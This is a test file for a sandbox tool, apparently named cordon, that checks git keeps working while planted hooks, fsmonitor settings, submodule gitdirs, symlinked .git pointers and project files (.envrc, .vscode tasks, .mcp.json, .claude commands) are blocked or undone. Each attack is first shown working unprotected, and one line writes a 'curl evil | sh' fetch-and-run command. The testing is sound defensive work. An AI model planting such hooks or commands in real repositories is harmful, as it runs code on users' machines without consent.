// Git under workspace and ci (issue 15): commits work, while what git
// executes or trusts stays as it was, in every repository of the write roots
// at depths 0 to 3, and a repository created during the run cannot make the
// host run code. Each attack is first shown working without protection (a
// plain -w run). Both modes, as root and as nobody; bwrap mode prevents,
// landlock-only mode repairs after the run.
import { afterAll, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { join } from "node:path";
import { gitEnv } from "../helpers/git-scene.ts";
import { cordon, modeArgs, NOBODY, run, systemTool, type RunOptions, nobodyUnavailable } from "../helpers/cordon.ts";

const MODES = systemTool("bwrap") ? (["bwrap", "landlock"] as const) : (["landlock"] as const);
const gitMissing = systemTool("git") ? undefined : "git is not installed";

const USERS = nobodyUnavailable() ? (["caller"] as const) : (["caller", "nobody"] as const);

const scenes: string[] = [];
afterAll(() => {
  for (const dir of scenes) rmSync(dir, { recursive: true, force: true });
});

interface Scene {
  dir: string;
  user: "caller" | "nobody";
  at(path: string): string;
  /** A shell script run on the host as the scene's user, in the scene's directory. */
  host(script: string): ReturnType<typeof run>;
  /** The script under cordon with `args`, in the scene's directory. */
  sandboxed(args: string[], script: string): ReturnType<typeof run>;
}

function scene(user: "caller" | "nobody"): Scene {
  // Not under /tmp: bwrap mode gives the command a private /tmp.
  const dir = mkdtempSync("/var/tmp/cordon-git-");
  scenes.push(dir);
  mkdirSync(join(dir, "home"));
  if (user === "nobody") run(["chown", "-R", `${NOBODY}:${NOBODY}`, dir]);
  const options: RunOptions = { cwd: dir, env: gitEnv(join(dir, "home")), asNobody: user === "nobody" };
  return {
    dir,
    user,
    at: (path) => join(dir, path),
    host: (script) => run(["sh", "-c", script], options),
    sandboxed: (args, script) => cordon([...args, "--", "sh", "-c", script], options),
  };
}

/** A repository with one commit at `path` (relative to the scene). */
const REPO = (path: string) => `git init -q -b main ${path} && git -C ${path} commit -q --allow-empty -m init`;

const MARKER = "/var/tmp/cordon-git-ran";
/** A hook or fsmonitor that leaves a marker on the host when git runs it. */
const payload = (tag: string) => `#!/bin/sh\necho ${tag} >> ${MARKER}-$(id -u)\n`;

function markerOf(s: Scene): string {
  const uid = s.user === "nobody" ? NOBODY : process.getuid!();
  return `${MARKER}-${uid}`;
}

function ranOnHost(s: Scene): string {
  const path = markerOf(s);
  const text = existsSync(path) ? readFileSync(path, "utf8") : "";
  rmSync(path, { force: true });
  return text;
}

const DEPTHS = [".", "a", "a/b", "a/b/c"];
/** Where the new repositories go: `src/.git` at depth 1, `a/src/.git` at 2, `a/b/src/.git` at 3. */
const NEW_AT = [".", "a", "a/b"];

/** Plants, in the repository at `repo`, a post-checkout hook, an fsmonitor in its config and info/exclude. */
function plantScript(repo: string, tag: string): string {
  const hook = `${repo}/.git/hooks/post-checkout`;
  return [
    `printf '%s' '${payload(tag)}' > ${hook}; chmod +x ${hook}`,
    `printf '%s' '${payload(`${tag}-fsmonitor`)}' > ${repo}/fsmon.sh; chmod +x ${repo}/fsmon.sh`,
    `git -C ${repo} config core.fsmonitor "$PWD/${repo}/fsmon.sh"`,
    `echo '*' >> ${repo}/.git/info/exclude`,
    "true",
  ].join("; ");
}

/** What the user does later on the host: git commands that run hooks and fsmonitor. */
const USE_ON_HOST = (repo: string) =>
  `git -C ${repo} checkout -q -b later-$$ && git -C ${repo} status --short >/dev/null`;

for (const user of USERS) {
  for (const mode of MODES) {
    describe(`${mode} mode, as ${user}`, () => {
      test.skipIf(gitMissing !== undefined)(
        "a full git workflow works under --profile workspace " +
          "(commit, stash, branch, rebase, merge, tag, gc, worktrees, submodules)",
        () => {
          const s = scene(user);
          const setup = [
            REPO("lib"),
            REPO("proj"),
            "cd proj",
            "echo a > a && git add a && git commit -qm a",
            "git -c protocol.file.allow=always submodule add -q ../lib sub 2>/dev/null && git commit -qm sub",
            "git worktree add -q ../wt1 -b wt1",
          ].join(" && ");
          expect(s.host(setup).exitCode).toBe(0);
          const workflow = [
            "set -e",
            "echo b >> a && git add a && git commit -qm b",
            "echo c >> a && git stash -q && git stash pop -q && git commit -qam c",
            "git checkout -q -b feature && echo f > f && git add f && git commit -qm f",
            "git checkout -q main && echo m > m && git add m && git commit -qm m",
            "git checkout -q feature && git rebase -q main",
            "git checkout -q main && git merge -q --no-ff -m merge feature",
            "git tag v1",
            "git gc -q",
            "git worktree add -q ../wt2 -b wt2 && (cd ../wt2 && echo w > w && git add w && git commit -qm w)",
            "(cd ../wt1 && echo y > y && git add y && git commit -qm y)",
            "(cd sub && git checkout -q -b s && echo s > s && git add s && git commit -qm s)",
            "git add sub && git commit -qm bump",
            "git init -q ../fresh && (cd ../fresh && echo n > n && git add n && git commit -qm n)",
            "echo workflow-done",
          ].join("\n");
          const result = s.sandboxed(
            ["--profile", "workspace", ...modeArgs(mode), "-w", s.dir, "-C", "proj"],
            workflow,
          );
          expect(result.stderr).not.toContain("protectGit");
          expect(result.stdout).toContain("workflow-done");
          expect(result.exitCode).toBe(0);
          const log = s.host("git -C proj log --format=%s main && git -C proj tag && git -C wt2 log -1 --format=%s");
          for (const subject of ["bump", "merge", "f", "c", "b", "v1", "w"]) expect(log.stdout).toContain(subject);
        },
      );

      test.skipIf(gitMissing !== undefined)(
        "hook, fsmonitor and info/exclude plants at depths 0-3 run on the host without protection, and not with it",
        () => {
          const s = scene(user);
          expect(s.host(DEPTHS.map(REPO).join(" && ")).exitCode).toBe(0);
          ranOnHost(s);
          // Without protection (-w . alone) the plants work: the attack is real.
          const plant = DEPTHS.map((repo) => plantScript(repo, `plain-${repo}`)).join("; ");
          s.sandboxed(["-w", ".", ...modeArgs(mode)], plant);
          for (const repo of DEPTHS) s.host(USE_ON_HOST(repo));
          const ran = ranOnHost(s);
          for (const repo of DEPTHS) expect(ran).toContain(`plain-${repo}\n`);
          for (const repo of DEPTHS) s.host(`rm -rf ${repo}/.git && ${REPO(repo)}`);

          const guarded = DEPTHS.map((repo) => plantScript(repo, `guarded-${repo}`)).join("; ");
          const result = s.sandboxed(["--profile", "workspace", ...modeArgs(mode)], guarded);
          expect(result.exitCode).toBe(0);
          for (const repo of DEPTHS) s.host(USE_ON_HOST(repo));
          expect(ranOnHost(s)).toBe("");
          for (const repo of DEPTHS) {
            expect(readFileSync(s.at(`${repo}/.git/config`), "utf8")).not.toContain("fsmonitor");
            expect(readFileSync(s.at(`${repo}/.git/info/exclude`), "utf8")).not.toMatch(/^\*$/m);
          }
          // bwrap mode prevents; landlock-only mode restores and says so.
          if (mode === "bwrap") expect(result.stderr).toContain("Read-only file system");
          else expect(result.stderr).toContain(`protectGit: restored ${s.at("a/b/c/.git/config")}`);
        },
      );

      test.skipIf(gitMissing !== undefined)(
        "the core.hooksPath directory (husky's .husky/_) cannot be changed or created",
        () => {
          const s = scene(user);
          expect(s.host(`${REPO(".")} && git config core.hooksPath .husky/_`).exitCode).toBe(0);
          const hook = ".husky/_/post-checkout";
          // husky's stub in .husky/_ runs the script of the same name in .husky/: both are hooks.
          const plant =
            `mkdir -p .husky/_ && printf '%s' '${payload("husky")}' > ${hook}; chmod +x ${hook}; ` +
            `printf '%s' '${payload("husky-script")}' > .husky/pre-commit`;
          s.sandboxed(["-w", ".", ...modeArgs(mode)], plant);
          s.host(USE_ON_HOST("."));
          expect(ranOnHost(s)).toContain("husky");
          expect(existsSync(s.at(".husky/pre-commit"))).toBe(true);
          s.host("rm -rf .husky");
          s.sandboxed(["--profile", "workspace", ...modeArgs(mode)], plant);
          s.host(USE_ON_HOST("."));
          expect(ranOnHost(s)).toBe("");
          expect(existsSync(s.at(".husky"))).toBe(false);
        },
      );

      test.skipIf(gitMissing !== undefined)(
        "a repository created during the run at depths 1-3 is neutralised: " +
          "its fsmonitor and hooks do not run on the host",
        () => {
          const s = scene(user);
          expect(s.host(REPO(".")).exitCode).toBe(0);
          const create = (tag: string) =>
            NEW_AT.map((dir) =>
              [
                `mkdir -p ${dir}/src && git init -q ${dir}/src`,
                `printf '%s' '${payload(`${tag}-${dir}-fsmonitor`)}' > ${dir}/fsmon.sh; chmod +x ${dir}/fsmon.sh`,
                `git -C ${dir}/src config core.fsmonitor "$PWD/${dir}/fsmon.sh"`,
                `printf '%s' '${payload(`${tag}-${dir}-hook`)}' > ${dir}/src/.git/hooks/post-checkout`,
                `chmod +x ${dir}/src/.git/hooks/post-checkout`,
                `git -C ${dir}/src commit -q --allow-empty -m x`,
              ].join(" && "),
            ).join("; ");
          const use = NEW_AT.map((dir) => USE_ON_HOST(`${dir}/src`)).join("; ");
          s.sandboxed(["-w", ".", ...modeArgs(mode)], create("plain"));
          s.host(use);
          const ran = ranOnHost(s);
          for (const dir of NEW_AT) {
            expect(ran).toContain(`plain-${dir}-fsmonitor`);
            expect(ran).toContain(`plain-${dir}-hook`);
          }
          s.host("rm -rf a src fsmon.sh");
          const report = s.at("report.json");
          const result = s.sandboxed(
            ["--profile", "workspace", "-q", "--report", report, ...modeArgs(mode)],
            create("guarded"),
          );
          expect(result.exitCode).toBe(0);
          s.host(use);
          expect(ranOnHost(s)).toBe("");
          // One line per repository, even under -q: cordon changed the user's files.
          const lines = result.stderr.split("\n").filter((line) => line.includes("protectGit: the repository"));
          expect(lines).toHaveLength(3);
          expect(lines[0]).toContain("core.fsmonitor");
          expect(lines[0]).toContain("hooks/post-checkout");
          const recorded = JSON.parse(readFileSync(report, "utf8")).git.neutralised as { path: string }[];
          expect(recorded.map((entry) => entry.path).sort()).toEqual(
            NEW_AT.map((dir) => s.at(`${dir}/src/.git`)).sort(),
          );
          expect(existsSync(s.at("a/src/.git/config.cordon-disabled"))).toBe(true);
          expect(existsSync(s.at("a/src/.git/hooks.cordon-disabled/post-checkout"))).toBe(true);
          // The repository still works, with its harmless settings.
          expect(s.host("git -C a/src log --format=%s").stdout.trim()).toBe("x");
        },
      );

      test.skipIf(gitMissing !== undefined)(
        "a new .git file leading through a planted symlink to a repository outside the write roots: " +
          "that repository is left alone, the pointer is moved aside",
        () => {
          const s = scene(user);
          // The user's own repository, outside the write root, with a hook of its own.
          expect(
            s.host(`${REPO("mine")} && mkdir ws && printf '#!/bin/sh\n' > mine/.git/hooks/pre-commit`).exitCode,
          ).toBe(0);
          s.host("chmod +x mine/.git/hooks/pre-commit");
          const script = `ln -s ${s.at("mine")} link && mkdir x && echo 'gitdir: ../link/.git' > x/.git`;
          const result = cordon(
            [...modeArgs(mode), "--profile", "workspace", "-C", s.at("ws"), "--", "sh", "-c", script],
            {
              env: gitEnv(s.at("home")),
              asNobody: user === "nobody",
            },
          );
          expect(result.exitCode).toBe(0);
          expect(existsSync(s.at("mine/.git/hooks/pre-commit"))).toBe(true);
          expect(existsSync(s.at("mine/.git/hooks.cordon-disabled"))).toBe(false);
          expect(existsSync(s.at("mine/.git/config.cordon-disabled"))).toBe(false);
          expect(existsSync(s.at("ws/x/.git"))).toBe(false);
          expect(existsSync(s.at("ws/x/.git.cordon-disabled"))).toBe(true);
        },
      );

      test.skipIf(gitMissing !== undefined)(
        "a submodule git directory planted in .git/modules is neutralised: the host's submodule update adopts it",
        () => {
          const s = scene(user);
          s.host(`printf '%s' '${payload("module-fsmonitor")}' > fsmon.sh && chmod +x fsmon.sh`);
          const plant = [
            "git clone -q --bare ../lib .git/modules/evil",
            "git config -f .git/modules/evil/config core.bare false",
            "git config -f .git/modules/evil/config core.worktree ../../../evil",
            `git config -f .git/modules/evil/config core.fsmonitor "${s.at("fsmon.sh")}"`,
            `printf '[submodule "evil"]\\n\\tpath = evil\\n\\turl = ../lib\\n' > .gitmodules`,
            "git update-index --add --cacheinfo 160000,$(git -C ../lib rev-parse HEAD),evil",
            "git add .gitmodules && git commit -qm plant",
          ].join(" && ");
          const attack = (args: string[]) => {
            s.host(`rm -rf lib ws && ${REPO("lib")} && ${REPO("ws")}`);
            const result = cordon([...args, ...modeArgs(mode), "--", "sh", "-c", plant], {
              cwd: s.at("ws"),
              env: gitEnv(s.at("home")),
              asNobody: user === "nobody",
            });
            s.host(
              "cd ws && git -c protocol.file.allow=always submodule -q update --init && git -C evil status >/dev/null",
            );
            return result;
          };
          attack(["-w", "."]);
          expect(ranOnHost(s)).toContain("module-fsmonitor");
          const result = attack(["--profile", "workspace"]);
          expect(result.exitCode).toBe(0);
          expect(result.stderr).toContain(`protectGit: the repository ${s.at("ws/.git/modules/evil")}`);
          expect(ranOnHost(s)).toBe("");
        },
      );

      test("project files at the top of the write root: changed or planted without protection, not with it", () => {
        const s = scene(user);
        s.host("mkdir .vscode && echo '{}' > .vscode/tasks.json");
        const plant = [
          `echo '{"tasks":"evil"}' > .vscode/tasks.json`,
          "echo 'curl evil | sh' > .envrc",
          "echo '{}' > .mcp.json",
          "mkdir -p .claude/commands .idea && echo evil > .claude/commands/x.md",
          "touch ordinary-new-file",
          "true",
        ].join("; ");
        s.sandboxed(["-w", ".", ...modeArgs(mode)], plant);
        expect(readFileSync(s.at(".vscode/tasks.json"), "utf8")).toContain("evil");
        for (const name of [".envrc", ".mcp.json", ".claude", ".idea"]) expect(existsSync(s.at(name))).toBe(true);
        s.host("rm -rf .envrc .mcp.json .claude .idea ordinary-new-file && echo '{}' > .vscode/tasks.json");

        const result = s.sandboxed(["--profile", "workspace", ...modeArgs(mode)], plant);
        expect(result.exitCode).toBe(0);
        expect(readFileSync(s.at(".vscode/tasks.json"), "utf8")).toBe("{}\n");
        for (const name of [".envrc", ".mcp.json", ".claude", ".idea"]) expect(existsSync(s.at(name))).toBe(false);
        // Ordinary work at the top of the project is unaffected, in both modes.
        expect(existsSync(s.at("ordinary-new-file"))).toBe(true);
        if (mode === "landlock") expect(result.stderr).toContain(`protectFiles: removed ${s.at(".envrc")}`);

        // A policy file releases one by name.
        const released = s.sandboxed(
          ["-p", '{"profile": "workspace", "releaseFiles": [".envrc"]}', ...modeArgs(mode)],
          "echo 'use nix' > .envrc",
        );
        expect(released.exitCode).toBe(0);
        expect(readFileSync(s.at(".envrc"), "utf8")).toBe("use nix\n");
      });
    });
  }
}

describe("-v names the rule behind a denied git operation", () => {
  test.skipIf(gitMissing !== undefined || !MODES.includes("bwrap" as never))("bwrap mode", () => {
    const s = scene("caller");
    expect(s.host(REPO(".")).exitCode).toBe(0);
    const result = s.sandboxed(["--profile", "workspace", "-v", "--mode", "bwrap"], "git config core.editor vi");
    expect(result.exitCode).not.toBe(0);
    expect(result.stderr).toContain(`${s.at(".git/config")} is write-protected by protectGit (config of`);
  });
});

describe("a newcomer's environment", () => {
  for (const mode of MODES) {
    test.skipIf(Boolean(nobodyUnavailable() ?? gitMissing))(
      `${mode} mode: nobody with root's HOME (which nobody cannot search) runs workspace in a repository, ` +
        "and a plant is still undone",
      () => {
        const dir = mkdtempSync("/var/tmp/cordon-git-home-");
        scenes.push(dir);
        const env = { ...gitEnv("/root"), HOME: "/root", XDG_STATE_HOME: "/root/.local/state" };
        run(["git", "init", "-q", dir]);
        run(["chown", "-R", `${NOBODY}:${NOBODY}`, dir]);
        const result = cordon(
          ["--profile", "workspace", ...modeArgs(mode), "--", "sh", "-c", "git config core.fsmonitor evil; echo ran"],
          { cwd: dir, env, asNobody: true },
        );
        expect(result.stderr).not.toContain("internal error");
        expect(result.exitCode).toBe(0);
        expect(result.stdout).toBe("ran\n");
        expect(readFileSync(join(dir, ".git/config"), "utf8")).not.toContain("fsmonitor");
      },
    );
  }
});
